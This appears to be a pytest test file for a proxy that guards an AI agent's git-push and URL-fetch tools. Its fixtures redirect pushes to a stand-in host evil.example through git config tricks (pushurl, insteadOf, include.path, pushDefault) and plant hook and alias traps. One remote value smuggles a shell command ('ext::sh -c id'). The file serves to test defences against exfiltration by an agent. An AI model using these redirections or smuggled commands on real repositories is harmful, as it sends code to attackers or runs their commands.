"""Where a URL or a git remote really leads decides."""

import subprocess
from collections.abc import Callable, Iterator
from hashlib import sha256
from pathlib import Path
from typing import TypeAlias

import orjson
import pytest

from ironcurtain_proxy.model.values import Json
from tests.e2e.installation import Installation, Roles, rule, tool
from tests.e2e.raw_client import Message, RawClient, at, text
from tests.tables import table

GIT_ROLES: Roles = {
    "git_push": {"path": ["read-path"], "remote": ["git-remote-url"], "branch": ["branch-name"]},
    "git_set_working_dir": {"path": ["read-path"]},
}

GIT_TOOLS: list[Message] = [
    {
        "name": "git_push",
        "inputSchema": {
            "type": "object",
            "properties": {name: {"type": "string"} for name in ("path", "remote", "branch")},
        },
    },
    tool("git_set_working_dir", path={"type": "string"}),
]

GOOD = "https://github.com/us/ours.git"
EVIL = "https://evil.example/us/ours.git"

Connected: TypeAlias = tuple[Installation, RawClient]


def git(repository: Path, *arguments: str) -> None:
    subprocess.run(["git", "-C", str(repository), *arguments], check=True, capture_output=True)


@pytest.fixture(scope="module")
def pushing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Connected]:
    """A git server that may talk to github.com, and a rule that lets it do everything."""
    installation = Installation(tmp_path_factory.mktemp("pushing"))
    installation.add_scripted(
        "git",
        GIT_ROLES,
        tools=GIT_TOOLS,
        annotations="git",
        sandbox={"network": {"allowedDomains": ["github.com"]}},
    )
    installation.rules.append(rule("git-may", server=["git"], tool=[*GIT_ROLES]))
    yield installation, installation.start()
    installation.end()


@pytest.fixture
def ours(pushing: Connected, request: pytest.FixtureRequest) -> Path:
    """A fresh repository in the workspace whose `origin` is the good one."""
    installation, _ = pushing
    directory = installation.workspace / sha256(request.node.nodeid.encode()).hexdigest()[:16]
    directory.mkdir()
    git(directory, "init", "--quiet", "--initial-branch=main")
    git(directory, "remote", "add", "origin", GOOD)
    return directory


def push_url(directory: Path) -> None:
    git(directory, "config", "remote.origin.pushurl", EVIL)


def second_url(directory: Path) -> None:
    git(directory, "remote", "set-url", "--add", "origin", EVIL)


def push_instead_of(directory: Path) -> None:
    git(directory, "config", "url.https://evil.example/.pushInsteadOf", "https://github.com/")


def instead_of(directory: Path) -> None:
    git(directory, "config", "url.https://evil.example/.insteadOf", "https://github.com/")


def included(directory: Path) -> None:
    (directory / "more").write_text(f'[remote "origin"]\n\tpushurl = {EVIL}\n')
    git(directory, "config", "include.path", "../more")


def fetch_url(directory: Path) -> None:
    git(directory, "remote", "set-url", "origin", EVIL)


def push_default(directory: Path) -> None:
    git(directory, "remote", "add", "evil", EVIL)
    git(directory, "config", "remote.pushDefault", "evil")


def branch_remote(directory: Path) -> None:
    git(directory, "remote", "add", "evil", EVIL)
    git(directory, "config", "branch.main.pushRemote", "evil")


EVERYWHERE = (push_url, second_url, push_instead_of, instead_of, included, fetch_url)


def assert_refused(pushing: Connected, given: Message) -> None:
    """The push is not sent."""
    installation, agent = pushing
    before = len(installation.received("git"))
    assert agent.call("git_push", given)["isError"] is True
    assert len(installation.received("git")) == before
    assert installation.last_decision()[0] in ("deny", "escalate")


@pytest.mark.parametrize("twist", EVERYWHERE, ids=[twist.__name__ for twist in EVERYWHERE])
@pytest.mark.parametrize("remote", ["origin", None], ids=["origin", "no remote named"])
def test_a_push_goes_nowhere_that_the_name_hides(
    twist: Callable[[Path], None], remote: str | None, ours: Path, pushing: Connected
) -> None:
    """G8, G9."""
    twist(ours)
    given: Message = {"path": str(ours), "branch": "main"}
    assert_refused(pushing, {**given, **({} if remote is None else {"remote": remote})})


@pytest.mark.parametrize("twist", [push_default, branch_remote])
def test_a_push_without_a_remote_goes_where_git_would_send_it(
    twist: Callable[[Path], None], ours: Path, pushing: Connected
) -> None:
    """G9."""
    twist(ours)
    assert_refused(pushing, {"path": str(ours), "branch": "main"})


@pytest.mark.parametrize("twist", [push_instead_of, instead_of])
def test_a_url_that_git_rewrites_is_judged_as_rewritten(
    twist: Callable[[Path], None], ours: Path, pushing: Connected
) -> None:
    """G8."""
    twist(ours)
    assert_refused(pushing, {"path": str(ours), "remote": GOOD})


@pytest.mark.parametrize(
    "remote",
    [
        EVIL,
        "git@evil.example:us/ours.git",
        "ext::sh -c id",
        "file:///srv/x.git",
        "/srv/x.git",
        "..",
    ],
)
def test_a_remote_elsewhere_is_not_pushed_to(remote: str, ours: Path, pushing: Connected) -> None:
    assert_refused(pushing, {"path": str(ours), "remote": remote})


@pytest.mark.parametrize("remote", ["origin", None, GOOD, "git@github.com:us/ours.git"], ids=str)
def test_a_push_to_the_allowed_host_is_sent_as_it_came(
    remote: str | None, ours: Path, pushing: Connected
) -> None:
    _, agent = pushing
    given: Message = {"path": str(ours), "branch": "main"}
    given |= {} if remote is None else {"remote": remote}
    sent = at(orjson.loads(text(agent.call("git_push", given))), "arguments")
    assert isinstance(sent, dict)
    assert sent.get("remote") == remote
    assert sent["path"] == str(ours)


def test_a_remote_that_changes_between_two_calls_is_looked_at_again(
    ours: Path, pushing: Connected
) -> None:
    """G8."""
    _, agent = pushing
    given: Message = {"path": str(ours), "remote": "origin"}
    assert "isError" not in agent.call("git_push", given)
    push_url(ours)
    assert_refused(pushing, given)


def test_a_hook_or_alias_of_the_repository_does_not_run_when_it_is_looked_at(
    ours: Path, pushing: Connected
) -> None:
    """G8."""
    installation, agent = pushing
    trap = installation.root / "sprung"
    script = installation.root / "trap.sh"
    script.write_text(f"#!/bin/sh\ntouch {trap}\n")
    script.chmod(0o755)
    for name in ("core.fsmonitor", "core.sshCommand", "core.pager", "credential.helper"):
        git(ours, "config", name, str(script))
    git(ours, "config", "alias.remote", f"!{script}")
    git(ours, "config", "alias.config", f"!{script}")
    agent.call("git_push", {"path": str(ours), "remote": "origin"})
    assert not trap.exists()


def test_the_working_directory_that_was_set_is_meant_where_none_is_given(
    ours: Path, pushing: Connected
) -> None:
    """G4."""
    _, agent = pushing
    agent.call("git_set_working_dir", {"path": str(ours)})
    sent = orjson.loads(text(agent.call("git_push", {"remote": "origin"})))
    assert at(sent, "arguments", "path") == str(ours)
    push_url(ours)
    assert_refused(pushing, {"remote": "origin"})


@pytest.fixture(scope="module")
def fetching(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Connected]:
    """A fetch server with two rules: named hosts, and `*`."""
    installation = Installation(tmp_path_factory.mktemp("fetching"))
    roles: Roles = {"fetch": {"url": ["fetch-url"]}}
    tools = [tool("fetch", url={"type": "string"})]
    installation.add_scripted("named", roles, tools=tools)
    installation.add_scripted("any", roles, tools=tools)
    for server, allowed in (("named", ["example.com", "*.docs.example"]), ("any", ["*"])):
        domains: Json = {"roles": ["fetch-url"], "allowed": [*allowed]}
        installation.rules.append(rule(f"{server}-hosts", server=[server], domains=domains))
    yield installation, installation.start()
    installation.end()


@pytest.mark.parametrize(
    "url",
    [
        "https://example.com/a/",
        "https://example.com/?q=a/",
        "https://EXAMPLE.com:443/%7Ea/../b//#x",
        "http://user@example.com/",
        "https://deep.docs.example/",
        "https://docs.example",
    ],
)
def test_a_url_is_sent_as_it_came(url: str, fetching: Connected) -> None:
    """G24."""
    installation, agent = fetching
    sent = orjson.loads(text(agent.call("named__fetch", {"url": url})))
    assert at(sent, "arguments", "url") == url
    assert installation.last_decision() == ("allow", "named-hosts")


@pytest.mark.parametrize(
    "url",
    table("e2e/urls.elsewhere", list[str]),
)
def test_a_url_that_leads_elsewhere_is_not_sent(url: str, fetching: Connected) -> None:
    installation, agent = fetching
    before = len(installation.received("named"))
    assert agent.call("named__fetch", {"url": url})["isError"] is True
    assert len(installation.received("named")) == before


@pytest.mark.parametrize(
    "url",
    table("e2e/urls.this_machine", list[str]),
)
def test_any_host_does_not_mean_this_machine_or_no_host(url: str, fetching: Connected) -> None:
    """G11."""
    installation, agent = fetching
    before = len(installation.received("any"))
    assert agent.call("any__fetch", {"url": url})["isError"] is True
    assert len(installation.received("any")) == before


def test_any_host_means_any_other(fetching: Connected) -> None:
    _, agent = fetching
    result = agent.call("any__fetch", {"url": "https://whatever.example/"})
    assert at(orjson.loads(text(result)), "arguments", "url") == "https://whatever.example/"
